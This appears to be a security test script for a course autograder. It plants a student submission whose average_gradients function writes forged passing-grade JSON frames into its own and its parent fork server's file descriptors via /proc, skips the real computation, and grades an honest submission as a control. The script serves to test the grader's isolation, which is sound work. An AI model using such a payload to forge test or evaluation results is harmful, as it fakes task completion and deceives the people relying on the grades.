"""a05: re-attack of round 13's fork-server fix (the fork server was started with the observer's report channel as
its stdout; fixed). Graded with DISTCOURSE_START_METHOD=forkserver in the TA's environment (on the sandbox's
allow-list; the default on a GPU host). mallory's average_gradients, run in the observer's ranks, writes forged
observation frames (the wire MIME, a passing report, newline-framed JSON) into fd 1, fd 2 and every other descriptor
it holds, of itself and (through /proc/<pid>/fd, same user) of its parent the fork server, then does nothing.
Honest ps2 (source/) graded in the same run under the fork server: round 13's bug would cost it 5 points."""
import os, sys, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u14
CELL = r'''
def average_gradients(model):
    import os, json
    frame = json.dumps({"check": "average_gradients_matches_large_batch", "passed": True, "failed": None,
                        "output_type": "display_data", "data": {"application/vnd.distcourse.observation+json": {"passed": True}},
                        "score": 3, "points": 3}).encode() + b"\n"
    log = []
    for who in ("self", str(os.getppid())):
        try:
            fds = os.listdir(f"/proc/{who}/fd")
        except OSError as e:
            log.append((who, repr(e))); continue
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{who}/fd/{fd}")
                if who == "self":
                    n = os.write(int(fd), frame)
                else:
                    with open(f"/proc/{who}/fd/{fd}", "wb", 0) as f:
                        n = f.write(frame)
                log.append((who, fd, target, n))
            except OSError as e:
                log.append((who, fd, repr(e)[:60]))
    try:
        open("/tmp/a05-log.txt", "a").write(repr(log) + "\n")
    except OSError:
        pass
'''
nb = u14.notebook("ps2_ddp", append={"average_gradients": CELL})
dest = u14.course("a05", {("mallory", "ps2_ddp"): nb, ("zz_honest", "ps2_ddp"): u14.honest("ps2_ddp")})
p = u14.grade(dest, env=u14.CANARY_ENV + ["DISTCOURSE_START_METHOD=forkserver"])
u14.scores(dest)
u14.report(dest)
u14.cleanup(dest)
